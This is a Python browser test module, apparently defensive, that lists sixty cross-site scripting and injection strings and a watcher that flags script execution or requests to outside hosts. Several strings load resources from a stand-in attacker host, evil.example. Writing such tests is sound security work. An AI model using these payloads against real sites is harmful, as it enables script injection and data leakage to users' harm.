"""Sixty texts that would run or reach out where a page does not say what is text, and a page that watches for both."""

from collections.abc import Iterable
from typing import Any

from tests.browsing import settled

RUN = "window.marker=1"
OUT = "//evil.example/x"
ATTACKS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"</script><script>{RUN}</script>", f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    f'" onfocus={RUN} autofocus x="', f"' onfocus={RUN} autofocus x='", f'" onmouseover="{RUN}', f"` onerror={RUN} `",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>", f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<video><source onerror={RUN}></video>", f"<audio src onerror={RUN}>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
    f"<form><button formaction=javascript:{RUN} autofocus>x</button></form>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"<style>@import '{OUT}';</style>", f"<link rel=stylesheet href={OUT}>", f"<script src={OUT}></script>", f"<img src={OUT}>",
    f"<base href={OUT}>", f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<style>*{{background:url({OUT})}}</style>",
    f"<p style='background:url({OUT})'>x</p>", f"--><script>{RUN}</script>", f"<!--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"<marquee onstart={RUN}>", f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{ {RUN} }}}}", f"{{% include '{OUT}' %}}", f"${{{RUN}}}", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<img src=x onerror=eval('{RUN}')>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>", f"\u2028<script>{RUN}</script>", f"<img/src=x/onerror={RUN}>",
    f"<a href='{OUT}' ping='{OUT}'>x</a>", f"=HYPERLINK(\"{OUT}\")<script>{RUN}</script>",
)  # fmt: skip


class Watch:
    """Looks at addresses in a browser: what ran there, and what was asked of anybody else."""

    def __init__(self, page: Any, origin: str) -> None:
        self.page, self.ran, self.left = page, list[str](), list[str]()
        page.on("dialog", lambda dialog: (self.ran.append(f"dialog on {page.url}"), dialog.dismiss()))
        page.on("request", lambda asked: None if at_home(asked.url, origin) else self.left.append(asked.url))

    def look_at(self, addresses: Iterable[str]) -> "Watch":
        for address in addresses:
            self.page.goto(address, wait_until="load")
            if settled(self.page).evaluate("window.marker"):
                self.ran.append(address)
        return self


def at_home(url: str, origin: str) -> bool:
    return url.startswith((origin + "/", "data:image/"))
